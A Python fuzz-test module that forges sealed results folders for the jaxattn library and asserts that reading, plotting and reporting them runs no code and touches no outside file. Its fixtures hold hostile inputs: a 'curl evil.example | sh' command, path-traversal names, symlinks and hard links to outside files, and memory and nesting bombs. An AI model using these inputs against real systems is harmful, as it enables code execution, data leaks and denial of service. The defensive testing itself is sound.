"""Malicious results folders: correctly sealed, with arbitrary content."""

import json
import os
import random
import resource
import shutil
import socket
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import chdir, contextmanager, redirect_stderr, redirect_stdout
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import damages
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from damages import LONGEST_S

import jaxattn as ja
from jaxattn.core.errors import InputError, RunError
from jaxattn.lab import cli
from jaxattn.lab.books import read_book, reproduce
from jaxattn.lab.books.run import Request
from jaxattn.lab.engine.progress import Reporter
from jaxattn.lab.results import report
from jaxattn.lab.results.figures import KINDS
from jaxattn.lab.storage import files

CODE = "evil.py:M"
EVIL = "from pathlib import Path\nPath({!r}).touch()\ndef M(*_, **__): Path({!r}).touch()\n"
EVIL_COMMAND = "curl evil.example | sh"
# Memory that reading a folder may use.
MAX_KIB = 2**20
SECRET = b"\x89PNG what only its owner reads"
# Values that replace a value of JSON.
STRANGE = (
    None, True, -1, 0, 10**12, 10**30, 1e308, float("nan"), float("inf"), "", "x", "é\x1b[2J\n", "\udcff",
    "../../secret.png", "/etc/hostname", CODE, [], ["x"], [[]], {}, {"kind": CODE}, [{"kind": CODE}],
    ["a"] * 3000,
)  # fmt: skip
NAMES_CODE = ("model", "data", "loss", "start", "optimizer", "probes", "phases", "figures", "code")
PAPER = read_book("paper")
ITEM = PAPER.item("fig2_synthetic")
SMALL = ("model.dim=16", "seeds=2", "phases.joint.steps=4", "data.sequences=40", "data.test_sequences=20",
        "data.vocab_size=30", "data.relevant=20", "data.length=6")  # fmt: skip
# Overrides of the study of an item.
TINY = {"study": SMALL}


def attack(count: int, seed: int) -> dict[str, int]:
    """Forge folders, and use each in every way that a stranger's folder may be used.

    Returns:
        Number of times that each forgery was rejected, and that it was read.

    Raises:
        AssertionError: executed code, a file read or written outside, a traceback, a long silence, unbounded
            memory, or advice in the words of the folder's author.
    """
    outcomes: Counter[str] = Counter()
    with tempfile.TemporaryDirectory() as name:
        root = Path(name).resolve()
        whole = _whole(root / "whole")
        for number in range(count):
            drawn = random.Random(f"forged {seed} {number}")
            forge = KINDS_OF_FORGERY[number % len(KINDS_OF_FORGERY)]
            place = root / f"{number}"
            out = shutil.copytree(whole, place / "out")
            (place / "evil.py").write_text(EVIL.format(str(place / "ran"), str(place / "ran")))
            (place / "secret.png").write_bytes(SECRET)
            (place / "victims").mkdir()
            (place / "victims" / "kept").write_text("kept")
            for each in (_run_of(out), _run_of(out) / "figures", out):
                shutil.copy(place / "evil.py", each)
            # A run that starts again compiles again, which takes most of the time.
            uses = USES if number % 3 == 0 or forge is leads_outside else USES[:-1]
            case = f"seed {seed}, forgery {number}: {forge.__name__}"
            try:
                forge(_run_of(out), out, place, drawn)
                refused = _use(out, place, uses)
            except Exception as error:
                raise AssertionError(f"{case}: {type(error).__name__}: {error}") from error
            outcomes[f"{forge.__doc__.rstrip('.').lower()}: {'refused' if refused else 'read'}"] += 1
            shutil.rmtree(place)
    return dict(sorted(outcomes.items()))


def _run_of(out: Path) -> Path:
    return out / "runs" / "laptop" / ITEM.name


def _whole(out: Path) -> Path:
    """Return a finished item of the paper in small sizes, with its report and its page."""
    with Reporter(quiet=True) as reporter:
        asked = Request([ITEM.name], overrides=TINY)
        reproduce(PAPER, asked, out=out, command="jaxattn reproduce", reporter=reporter)
    report.write_report(_run_of(out))
    return out


def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -> bool:
    """Read, verify, plot, and make the page; return whether anything was rejected."""
    run, refused = _run_of(out), []
    before = _outside(place)
    with chdir(place), _quiet() as said:
        for use in uses:
            begin, held = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            try:
                use(run, out)
            except (InputError, RunError) as error:
                refused.append(str(error))
            except SystemExit as ended:
                refused += [""] if ended.code else []
            spent = time.monotonic() - begin
            grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held
            assert grown < MAX_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
            # A run that starts again reports its progress.
            assert spent < LONGEST_S or use is _reproduce, f"{use.__name__} took {spent:.0f} s"
    assert "Traceback" not in said.getvalue(), said.getvalue()
    assert all(x.isprintable() or x == "\n" for x in said.getvalue()), ascii(said.getvalue())
    told = "\n".join([said.getvalue(), *refused])
    assert EVIL_COMMAND not in told, told
    assert not any(f"{word} {place / 'secret'}" in told for word in ("remove", "delete")), told
    assert not any("\n" in line for line in refused), refused
    assert _outside(place) == before, "something outside was changed, or code was run"
    pages = [
        path.read_bytes() for path in out.rglob("*") if path.is_file() and path.suffix in (".html", ".md")
    ]
    assert not any(_embedded(SECRET) in text or SECRET in text for text in pages), (
        "a page shows a file outside"
    )
    return bool(refused)


def _embedded(data: bytes) -> bytes:
    import base64

    return base64.b64encode(data)


def _command(*words: str) -> Callable[[Path, Path], None]:
    def use(run: Path, out: Path) -> None:
        import sys

        before, sys.argv = sys.argv, ["jaxattn", *words, str(run)]
        try:
            cli.main()
        finally:
            sys.argv = before

    use.__name__ = " ".join(words)
    return use


def _load(run: Path, out: Path) -> None:
    ja.load(run)._repr_html_()


def _params(run: Path, out: Path) -> None:
    ja.load(run).params()


def _draw(run: Path, out: Path) -> None:
    results = ja.load(run)
    for kind in KINDS:
        try:
            results.figure(kind)
        except InputError:
            continue


def _page(run: Path, out: Path) -> None:
    """Make the page of all items; nothing is run, because no data are given and one item is requested."""
    with Reporter(quiet=True) as reporter:
        reproduce(PAPER, Request(["fig3_imdb"], overrides=TINY), out=out, command="x", reporter=reporter)


def _reproduce(run: Path, out: Path) -> None:
    with Reporter(quiet=True) as reporter:
        asked = Request([ITEM.name], overrides=TINY)
        found = reproduce(PAPER, asked, out=out, command="x", reporter=reporter)
    if found.failed:
        raise RunError("; ".join(found.failed.values()))


USES = (
    _command("status"), _command("status", "--verify"), _command("aggregate"), _load, _params, _draw,
    _command("report"), _page, _reproduce,
)  # fmt: skip


def _outside(place: Path) -> dict[str, Any]:
    found = {}
    for path in place.rglob("*"):
        if (place / "out") in path.parents or path.name == "out" or "__pycache__" in path.parts:
            continue
        found[str(path)] = path.read_bytes() if path.is_file() else None
    return found


@contextmanager
def _quiet() -> Iterator[StringIO]:
    said = StringIO()
    with redirect_stdout(said), redirect_stderr(said), damages._listening() as heard:
        yield said
    said.write(heard[0])


# Forgeries.


def names_code(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Code named in the manifest."""
    content = _sealed(run / "manifest.json")
    key = drawn.choice(NAMES_CODE)
    config = content["config"]
    forged: dict[str, Any] = {
        "phases": [{**phase, "kind": CODE, "optimizer": CODE, "loss": CODE} for phase in config["phases"]],
        "probes": config["probes"] | {"own": [CODE, {"kind": CODE}]},
        "figures": [{"kind": CODE}, {"kind": str(place / CODE)}, {"kind": "curves"}],
        "start": [{**phase, "start": {"E": {"kind": CODE}}} for phase in config["phases"]],
        "optimizer": [{**phase, "optimizer": CODE} for phase in config["phases"]],
        "code": {CODE: "0" * 16},
    }
    if key == "code":
        content["code"] = forged["code"]
    else:
        where = "phases" if key in ("start", "optimizer") else key
        value = forged.get(key, {**config[key], "kind": CODE} if isinstance(config.get(key), dict) else CODE)
        content["config"] = config | {where: value}
    _seal(run / "manifest.json", content)


def changes_manifest(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary values in the manifest."""
    content = _sealed(run / "manifest.json")
    for _ in range(drawn.randint(1, 2)):
        _change(content, drawn)
    _seal(run / "manifest.json", content)


def changes_marks(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary values in the commit record of a batch."""
    if drawn.random() < 0.5:  # An unfinished run is read from its batches.
        content = _sealed(run / "manifest.json")
        _seal(run / "manifest.json", content | {"status": "running"})
    path = drawn.choice(sorted((run / "parts").glob("*.json")))
    content = _sealed(path)
    _change(content, drawn)
    _seal(path, content)


def changes_words(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary words in a report."""
    content = {"sha256": {}, "own": [{"index": 0, "name": "x", "title": "", "caption": ""}]}
    forged = [{}, [], content, {"sha256": {"figures/x.png": None}, "own": content["own"]}]
    forged += [{"sha256": {"../../../../secret.png": "0"}, "own": [CODE]}]
    content = drawn.choice(forged)
    if isinstance(content, dict):
        _seal(run / "figures" / "drawn.json", content)
    else:
        (run / "figures" / "drawn.json").write_text(json.dumps(content))
    _with_figures(run, [{"kind": CODE}])


def changes_log(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary values in the log."""
    lines = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    for line in lines:
        line.pop(files.SEAL)
        _change(line, drawn)
    (run / "metrics.jsonl").write_bytes(b"".join(files.sealed(line) for line in lines))
    content = _sealed(run / "manifest.json")
    _seal(run / "manifest.json", content | {"status": "running"})


def changes_tables(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary values in a table."""
    name = drawn.choice(["records", "tokens"])
    table = pd.read_parquet(run / f"{name}.parquet")
    column = drawn.choice(list(table.columns))
    value = drawn.choice([10**9, -1, np.nan, np.inf, "x", None, b"\0", CODE, True, 2.5, "\x1b[2J"])
    table[column] = [value] * len(table) if drawn.random() < 0.8 else [[1]] * len(table)
    if drawn.random() < 0.2:
        table = table.drop(columns=column)
    buffer = BytesIO()
    table.to_parquet(buffer, index=False)
    (run / f"{name}.parquet").write_bytes(buffer.getvalue())
    content = _sealed(run / "manifest.json")
    content["sha256"][name] = files.digest(buffer.getvalue())
    _seal(run / "manifest.json", content)


def changes_figures(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary options of figures."""
    options = (
        "phase",
        "metrics",
        "cells",
        "cell",
        "label",
        "number",
        "min_count",
        "axis",
        "x",
        "y",
        "expected",
    )
    specs = [
        {"kind": drawn.choice([*KINDS, CODE])} | {drawn.choice(options): drawn.choice(STRANGE)}
        for _ in range(3)
    ]
    _with_figures(run, specs)


def changes_record(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Arbitrary values in the record of an item."""
    path = out / "items" / f"{ITEM.name}.json"
    content = json.loads(path.read_text())
    if drawn.random() < 0.5:
        content["pictures"][0]["file"] = drawn.choice(
            ["../secret.png", str(place / "secret.png"), "figures/../../secret.png", "figures/link.png"]
        )
        (out / "figures" / "link.png").symlink_to(place / "secret.png")
    else:
        _change(content, drawn)
    path.write_text(json.dumps(content))
    if drawn.random() < 0.5:
        shutil.rmtree(run)


def leads_outside(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """A link that leads outside."""
    batch = next((run / "checkpoints").iterdir()).name
    places = [
        run / "figures", run / "parts", run / "checkpoints", run / "checkpoints" / batch, run / ".lock",
        run / "metrics.jsonl", run / "manifest.json", run / "records.parquet", run / "figures" / "drawn.json",
        run / "report.html", run, out / "items", out / "figures", out / "index.html", run / "damaged",
        next((run / "checkpoints" / batch).iterdir()),
    ]  # fmt: skip
    path = drawn.choice(places)
    target = place / "victims" / "moved"
    if not path.exists():
        target.mkdir()
    elif drawn.random() < 0.5:
        path.replace(target)
    else:
        shutil.rmtree(path) if path.is_dir() else path.unlink()
        target = place / "victims" if drawn.random() < 0.5 else place / "victims" / "kept"
    path.symlink_to(target)


def blocks(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """A special file in place of a regular one."""
    names = ["manifest.json", "records.parquet", "tokens.parquet", ".lock", "metrics.jsonl", "report.html"]
    names += ["figures/drawn.json", f"../../../items/{ITEM.name}.json", "../../../figures/fig2_synthetic.png"]
    names += [
        str(drawn.choice(sorted(x for x in run.glob("checkpoints/**/*") if x.is_file())).relative_to(run))
    ]
    names += [str(drawn.choice(sorted(run.glob("parts/*"))).relative_to(run))]
    path = run / drawn.choice(names)
    path.unlink(missing_ok=True)
    kind = drawn.choice(["fifo", "socket", "folder", "sparse", "loop", "device"])
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as bound, chdir(path.parent):
            bound.bind(path.name)
    elif kind == "folder":
        path.mkdir()
    elif kind == "sparse":
        path.touch()
        os.truncate(path, 2**40)
    else:
        path.symlink_to(path.name if kind == "loop" else "/dev/zero")


def links_hard(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """A hard link to a file outside."""
    name = drawn.choice([".lock", "metrics.jsonl", "manifest.json", "report.html", "records.parquet"])
    (run / name).unlink(missing_ok=True)
    os.link(place / "victims" / "kept", run / name)
    content = None if name == "manifest.json" else _sealed(run / "manifest.json")
    if content and drawn.random() < 0.5:  # The run must have work left.
        _seal(run / "manifest.json", content | {"status": "running"})
        next((run / "parts").glob("*.json")).unlink()


def fills_memory(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """A small table that expands to a large one."""
    name, rows = drawn.choice(["records", "tokens"]), drawn.choice([10**3, 10**5, 10**7])
    text = "x" * drawn.choice([1, 10**3, 10**6])
    table = pd.read_parquet(run / f"{name}.parquet").iloc[:1]
    columns = {}
    for column, values in table.items():
        if isinstance(values.iloc[0], str):
            encoded = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int32), [text])
            columns[column] = encoded
        else:
            value = values.to_numpy()
            columns[column] = pa.array(np.resize(value, rows))
    buffer = BytesIO()
    pq.write_table(pa.table(columns), buffer, compression="zstd")
    (run / f"{name}.parquet").write_bytes(buffer.getvalue())
    content = _sealed(run / "manifest.json")
    content["sha256"][name] = files.digest(buffer.getvalue())
    _seal(run / "manifest.json", content)


def advises(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Words that an error could repeat as advice."""
    content = _sealed(run / "manifest.json")
    content["command"] = EVIL_COMMAND
    _seal(run / "manifest.json", content)
    mark = next((run / "parts").glob("*.json"))
    outside = str(place / "secret.png")
    kind = drawn.choice(["table", "mark", "file", "name", "sum"])
    if kind == "table":
        (run / "records.parquet").write_bytes(b"")
    elif kind == "mark":
        mark.write_text("{}")
    elif kind == "file":
        state = _sealed(mark)
        state["checkpoint"]["files"] = {drawn.choice([outside, "../../../secret.png"]): [1, None]}
        _seal(mark, state)
    elif kind == "name":
        content["batches"][0]["name"] = drawn.choice([outside, f"../../{EVIL_COMMAND}"])
        _seal(run / "manifest.json", content)
    else:
        content["sha256"] = {drawn.choice([outside, "../../../../secret"]): "0" * 64}
        _seal(run / "manifest.json", content)


def labels(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Labels and names that are invalid mathematics, or very long."""
    content = _sealed(run / "manifest.json")
    text = drawn.choice(
        ["$\\frac{1}$", "$x^$", "${$", "$" * 999, "x" * 10**5, "$x$ " * 10**4, "\x1b[2J\x9b1m\n"]
    )
    metrics = set(pd.read_parquet(run / "records.parquet", columns=["metric"])["metric"])
    content["labels"] = dict.fromkeys(metrics, text)
    content["name"] = content["description"] = text
    content["config"]["figures"] = [{"kind": kind} for kind in ("curves", "importance", "top_tokens")]
    _seal(run / "manifest.json", content)


def nests(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
    """Deeply nested JSON, or very long numbers."""
    path = drawn.choice(
        [run / "manifest.json", run / "figures" / "drawn.json", out / "items" / f"{ITEM.name}.json"]
    )
    path.write_text(
        drawn.choice(["[" * 10**5, '{"a":' * 10**5, "9" * 10**6, "[" * 500 + "]" * 500, '{"seal": 1e999}'])
    )


KINDS_OF_FORGERY = (
    names_code, changes_manifest, changes_marks, changes_words, changes_log, changes_tables, changes_figures,
    changes_record, leads_outside, blocks, nests, changes_manifest, links_hard, fills_memory, advises, labels,
)  # fmt: skip


def _sealed(path: Path) -> dict[str, Any]:
    return files.unsealed(json.loads(path.read_bytes()))


def _seal(path: Path, content: dict[str, Any]) -> None:
    path.write_bytes(files.sealed(content))


def _with_figures(run: Path, specs: list[dict[str, Any]]) -> None:
    content = _sealed(run / "manifest.json")
    content["config"]["figures"] = specs
    _seal(run / "manifest.json", content)


def _change(tree: Any, drawn: random.Random) -> None:
    """Change one value of a JSON tree, with equal probability at every depth."""
    while True:
        keys = list(tree) if isinstance(tree, dict) else list(range(len(tree)))
        key = drawn.choice(keys)
        inner = tree[key]
        if isinstance(inner, dict | list) and inner and drawn.random() < 0.7:
            tree = inner
            continue
        if drawn.random() < 0.15:
            del tree[key]
        elif isinstance(tree, dict) and drawn.random() < 0.15:
            tree[drawn.choice(["../../../secret.png", "/etc/hostname", "x\x1b[2J"])] = inner
        else:
            tree[key] = drawn.choice(STRANGE)
        return
